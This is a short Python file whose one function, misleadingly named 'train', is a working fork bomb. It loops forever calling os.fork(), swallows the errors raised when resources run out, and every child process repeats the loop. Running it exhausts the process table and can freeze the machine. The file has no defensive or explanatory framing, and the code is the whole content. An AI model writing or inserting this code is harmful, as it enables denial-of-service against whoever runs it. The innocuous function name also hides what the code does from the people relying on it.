"""Forks, and so do its children."""

import os
import time


def train(burst):
    while True:
        try:
            os.fork()
        except OSError:
            pass
        time.sleep(0.01)
